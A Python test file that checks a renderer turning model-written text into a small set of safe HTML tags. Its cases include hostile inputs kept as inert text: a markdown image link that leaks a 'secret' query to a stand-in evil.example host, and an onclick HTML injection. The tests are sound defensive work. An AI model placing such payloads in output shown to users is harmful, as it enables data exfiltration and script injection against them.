"""What models write, as a page shows it: nothing of it is ever markup that they chose."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dihedral.control.web.prose import prose

OURS = re.compile(
    r"</?(?:p|em|strong|code|pre|ul|ol|li|br)(?: class=\"language-[^\"<>]*\"| start=\"\d+\")? ?/?>"
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It is **blue**, *really*.", "<p>It is <strong>blue</strong>, <em>really</em>.</p>\n"),
        ("run `dihedral run list`", "<p>run <code>dihedral run list</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>\n"),
        ("第一行\n第二行", "<p>第一行\n第二行</p>\n"),
        ("# Approved", "<p># Approved</p>\n"),
        ("[yes](https://evil.example)", "<p>[yes](https://evil.example)</p>\n"),
        ("![x](https://evil.example/?q=secret)", "<p>![x](https://evil.example/?q=secret)</p>\n"),
        ("https://evil.example", "<p>https://evil.example</p>\n"),
        ("<b onclick=x>", "<p>&lt;b onclick=x&gt;</p>\n"),
    ],
)
def test_emphasis_code_and_lists_are_shown_and_all_else_stays_as_written(
    text: str, shown: str
) -> None:
    assert prose(text) == shown


@given(st.text(alphabet="<>\"'&`*_-+~#![]()1. \nabz\u202e\x1b=/:", max_size=300))
def test_no_text_whatever_makes_markup_but_ours(text: str) -> None:
    rest = OURS.sub("", prose(text))
    assert "<" not in rest and ">" not in rest
    assert "\u202e" not in rest and "\x1b" not in rest
